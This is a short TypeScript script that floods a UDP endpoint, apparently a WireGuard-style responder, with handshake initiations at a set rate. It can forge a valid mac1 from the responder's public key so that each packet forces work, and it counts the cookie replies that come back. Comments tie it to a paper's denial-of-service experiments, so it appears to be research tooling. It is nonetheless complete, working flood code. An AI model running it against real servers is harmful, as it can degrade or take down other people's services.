// A flood of handshake initiations that lead nowhere, run inside a host:
// `HOST PORT RESPONDER_PUBLIC_KEY SECONDS RATE valid|bad`. With "valid" mac1 is right, as anybody who knows the public
// key can make it, so that the responder must think about each (paper §5.3, §5.4.4). Prints {"sent", "cookies"}.
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { setTimeout as wait } from 'node:timers/promises';
import { BLAKE2s, hash } from '@stablelib/blake2s';

const initiationSize = 148;
const mac1Offset = 116;
const cookieReplyType = 3;
const cookieReplySize = 64;
/** So many different ones are made beforehand and sent in turn. */
const prepared = 4000;
const ticksPerSecond = 200;

const [host = '', port, publicKey = '', seconds, rate, kind] = process.argv.slice(2);

const messages = Array.from({ length: prepared }, () => initiation(kind === 'valid'));
const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4');
let cookies = 0;
socket.on('message', (message) => {
  if (message[0] === cookieReplyType && message.length === cookieReplySize) cookies += 1;
});
console.log('flooding');
let sent = 0;
const start = performance.now();
const end = start + Number(seconds) * 1000;
while (performance.now() < end) {
  const due = ((performance.now() - start) / 1000) * Number(rate);
  while (sent < due) {
    socket.send(messages[sent % prepared] ?? Buffer.alloc(0), Number(port), host);
    sent += 1;
  }
  await wait(1000 / ticksPerSecond);
}
await wait(200);
console.log(JSON.stringify({ sent, cookies }));
socket.close();

function initiation(valid: boolean): Buffer {
  const message = randomBytes(initiationSize);
  message.fill(0, mac1Offset + 16);
  message.writeUInt32LE(1, 0);
  if (valid) {
    const label = Buffer.concat([Buffer.from('mac1----'), Buffer.from(publicKey, 'base64')]);
    const mac = new BLAKE2s(16, { key: hash(label) });
    message.set(mac.update(message.subarray(0, mac1Offset)).digest(), mac1Offset);
  }
  return message;
}
